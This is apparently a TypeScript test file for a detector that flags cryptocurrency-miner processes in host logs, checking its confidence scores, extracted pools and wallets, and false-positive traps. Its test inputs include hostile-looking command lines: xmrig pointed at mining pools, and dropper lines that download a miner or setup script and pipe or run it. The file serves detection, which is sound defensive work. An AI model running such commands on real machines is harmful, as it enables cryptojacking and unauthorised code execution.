import { test } from "node:test";
import assert from "node:assert/strict";
import type { Event, Finding } from "../../../model/index.js";
import { EVIDENCE_FIRST, WEAK_CONFIDENCE, makeFinding } from "../../../model/index.js";
import { defaultConfig } from "../../config.js";
import { runDetector, testIntel } from "../../../test-helpers/index.js";
import { createMinerProcessDetector, minerProcessDetector } from "./miner-process.js";

// A Monero address shape: 95 base58 characters starting with 4 (made up, not a real wallet).
const XMR = "44AFFtB4nLqvK7GBTt8m5QgiL1DPzWHrNL2ZK1Ze3vH6o2E5xSbXdyw7Zq3p4nkrQGdEcXr6cJbGDzBUx5oG4tFvH9MW3XE";

/** A process record as the ps / osquery / ECS sources write it (docs/events.md, Processes). */
function proc(line: number, fields: Record<string, string | number | boolean | string[]>): Event {
  return {
    "@timestamp": "2026-11-20T03:14:07.000Z",
    "event.dataset": "osquery.processes",
    "event.category": ["process"],
    "event.kind": "state",
    "log.file.path": "/cases/web-01/processes.ndjson",
    "minerhunt.line": line,
    "minerhunt.format": "osquery.processes",
    "host.name": "web-01",
    ...fields,
  };
}

test("a miner by name alone is 0.8; name, flags, pool and wallet together are 0.95 with every observable", () => {
  const byName = runDetector(minerProcessDetector, [proc(3, { "process.pid": 901, "process.name": "xmrig", "process.executable": "/opt/xmrig/xmrig", "process.command_line": "/opt/xmrig/xmrig" })]);
  assert.equal(byName.length, 1);
  assert.equal(byName[0]!.confidence, 0.8);
  assert.equal(byName[0]!.facts?.["miner.name"], "xmrig");

  const cmd = `/tmp/.x/xmrig -o xmr-eu1.nanopool.org:14444 -u ${XMR}.w1 -p x --donate-level=1 -B`;
  const [f] = runDetector(minerProcessDetector, [proc(7, {
    "process.pid": 4242, "process.name": "xmrig", "process.executable": "/tmp/.x/xmrig", "process.command_line": cmd,
    "process.hash.sha256": "a".repeat(64), "user.name": "www-data",
  })]);
  assert.ok(f);
  assert.equal(f.confidence, 0.95);
  assert.equal(f.severity, "high");
  assert.equal(f.trigger, "host");
  assert.deepEqual(f.evidence[0]?.file, "/cases/web-01/processes.ndjson");
  assert.equal(f.evidence[0]?.line, 7);
  assert.deepEqual(f.entities.hosts, ["web-01"]);
  assert.deepEqual(f.entities.users, ["www-data"]);
  assert.deepEqual(f.entities.pools, ["xmr-eu1.nanopool.org"]);
  const o = (type: string) => f.observables.filter((x) => x.type === type).map((x) => x.value);
  assert.deepEqual(o("domain"), ["xmr-eu1.nanopool.org"]);
  assert.deepEqual(o("port"), ["14444"]);
  assert.deepEqual(o("wallet"), [XMR]);
  assert.deepEqual(o("process"), ["xmrig"]);
  assert.deepEqual(o("hash"), ["a".repeat(64)]);
  assert.deepEqual(o("command-line"), [cmd]);
  assert.equal(f.rule.kind, "detector");
});

test("a renamed miner is found by its flags or its pool URL (0.8 each)", () => {
  const flags = runDetector(minerProcessDetector, [proc(1, { "process.name": "systemd-helper", "process.executable": "/var/tmp/.s/systemd-helper",
    "process.command_line": "/var/tmp/.s/systemd-helper --algo=rx/0 --cpu-max-threads-hint=75 -B" })]);
  assert.equal(flags[0]?.confidence, 0.8);
  assert.equal(flags[0]?.facts?.["miner.name"], undefined);
  const url = runDetector(minerProcessDetector, [proc(2, { "process.name": "dbus", "process.command_line": "./dbus -o stratum+ssl://203.0.113.50:443 -k" })]);
  assert.equal(url[0]?.confidence, 0.8);
  assert.deepEqual(url[0]?.entities.pools, ["203.0.113.50:443"]);
  // A wallet handed to a public host:port: a miner pointed at a pool nobody listed.
  const unlisted = runDetector(minerProcessDetector, [proc(3, { "process.name": "worker", "process.command_line": `./worker 198.51.100.7:7777 ${XMR}` })]);
  assert.equal(unlisted[0]?.confidence, 0.6);
  // A token that merely has a BTC address's shape next to a database URL is not that.
  const javaApp = runDetector(minerProcessDetector, [proc(4, { "process.name": "java", "process.command_line": "java -Dapp.key=1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 -jar app.jar --db=db.prod.example.com:5432" })]);
  assert.equal(javaApp.length, 0);
});

test("process.args is read when the command line is absent (ECS endpoint events)", () => {
  const [f] = runDetector(minerProcessDetector, [proc(1, {
    "event.dataset": "endpoint.events.process", "process.name": "kthreadd", "process.args": ["kthreadd", "-o", "pool.hashvault.pro:3333", "--coin", "monero"],
  })]);
  assert.ok(f);
  assert.equal(f.confidence, 0.95, "pool host and --coin monero agree");
});

test("traps: grep/pkill mentioning a miner, a dashboard named after one, ordinary processes, Falco alerts", () => {
  const events = [
    proc(1, { "process.name": "grep", "process.executable": "/usr/bin/grep", "process.command_line": "grep -r xmrig /var/log" }),
    proc(2, { "process.name": "pkill", "process.command_line": "pkill -9 -f stratum+tcp://" }),
    proc(3, { "process.name": "bash", "process.command_line": "bash -c ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9" }),
    proc(4, { "process.name": "xmrig-monitor-dashboard", "process.executable": "/opt/dash/xmrig-monitor-dashboard", "process.command_line": "/opt/dash/xmrig-monitor-dashboard --listen :9100" }),
    proc(5, { "process.name": "nginx", "process.command_line": "nginx: worker process" }),
    proc(6, { "process.name": "curl", "process.command_line": "curl -LO https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz" }),
    proc(7, { "event.dataset": "falco.alerts", "process.name": "xmrig", "process.command_line": "xmrig -o pool.supportxmr.com:3333" }),
  ];
  assert.deepEqual(runDetector(minerProcessDetector, events).map((f) => f.title), []);
});

test("the site allowlist of process names (config) silences a sanctioned miner", () => {
  const e = proc(1, { "process.name": "xmrig", "process.command_line": "xmrig -o pool.supportxmr.com:3333" });
  assert.equal(runDetector(minerProcessDetector, [e]).length, 1);
  assert.equal(runDetector(minerProcessDetector, [e], { config: { allowlist: { domains: [], ips: [], processes: ["xmrig"], hosts: [], images: [] } } }).length, 0);
});

test("routing: process events only; a network event naming xmrig is not this detector's", () => {
  const net: Event = { ...proc(1, { "process.name": "xmrig" }), "event.category": ["network"] };
  assert.equal(runDetector(minerProcessDetector, [net]).length, 0);
});

test("repeated snapshots of one process make one finding with a true count and first/last seen", () => {
  const events: Event[] = [];
  for (let i = 0; i < 25; i++) {
    events.push(proc(i + 1, {
      "@timestamp": new Date(Date.parse("2026-11-20T03:00:00Z") + i * 60_000).toISOString(),
      "process.pid": 4242, "process.name": "xmrig", "process.command_line": "xmrig -c /root/.xmrig.json",
    }));
  }
  const findings = runDetector(minerProcessDetector, events.reverse());
  assert.equal(findings.length, 1);
  assert.equal(findings[0]!.evidenceCount, 25);
  // A bounded sample: the earliest few and the latest, whatever order the records came in.
  assert.equal(findings[0]!.evidence.length, EVIDENCE_FIRST + 1);
  assert.deepEqual(findings[0]!.evidence.map((e) => e.line), [1, 2, 3, 4, 5, 25]);
  assert.equal(findings[0]!.firstSeen, "2026-11-20T03:00:00.000Z");
  assert.equal(findings[0]!.lastSeen, "2026-11-20T03:24:00.000Z");
  assert.ok(findings[0]!.confidence >= WEAK_CONFIDENCE);
});

test("bounded: 5,000 distinct miner processes with a cap of 100 are reported early, never all held", () => {
  const intel = testIntel();
  const early: Finding[] = [];
  const late: Finding[] = [];
  let finished = false;
  const run = createMinerProcessDetector({ maxKeys: 100 }).start({
    intel, config: defaultConfig(), emit: (d) => (finished ? late : early).push(makeFinding(d)),
  });
  for (let i = 0; i < 5000; i++) run.onEvent(proc(i + 1, { "process.pid": i, "process.name": "xmrig", "process.command_line": `xmrig --rig-id=r${i}` }));
  finished = true;
  run.finish();
  assert.equal(early.length, 4900);
  assert.equal(late.length, 100);
});

test("dropper lines from shell histories: an installer script run with a Monero wallet, a miner fetched by name then run", () => {
  const judge = (cmd: string) => runDetector(minerProcessDetector, [proc(2, { "process.command_line": cmd, "process.name": cmd.split(" ")[0]! })]);
  const installer = judge(`curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s ${XMR}`);
  assert.equal(installer.length, 1);
  // 0.7 for any downloaded script run with a wallet; the MoneroOcean setup script is also a named installer-abuse
  // fragment in data/intel/campaigns.yaml, which lifts it further.
  assert.ok(installer[0]!.confidence >= 0.7, String(installer[0]!.confidence));
  assert.match(String(installer[0]!.facts?.indicators), /downloaded script run with a Monero wallet|miner flags setup_moneroocean_miner\.sh/);

  const fetched = judge("curl -s http://198.51.100.9/xmrig -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x");
  assert.equal(fetched.length, 1);
  assert.equal(fetched[0]!.confidence, 0.75);
  assert.equal(fetched[0]!.facts?.["miner.name"], "xmrig");

  const archive = judge("wget -q http://198.51.100.9/d/xmrig.tar.gz -O- | tar xz -C /dev/shm && /dev/shm/run");
  assert.equal(archive[0]?.facts?.["miner.name"], "xmrig", "archive suffix stripped, run from the drop directory");

  // Downloading alone runs nothing; a script piped to a shell without a wallet says nothing of mining; a
  // wallet in an echo is text.
  assert.deepEqual(judge("wget http://198.51.100.9/xmrig"), []);
  assert.deepEqual(judge("curl -s http://198.51.100.9/x | sh"), []);
  assert.deepEqual(judge(`echo ${XMR} > wallet.txt`), []);
});
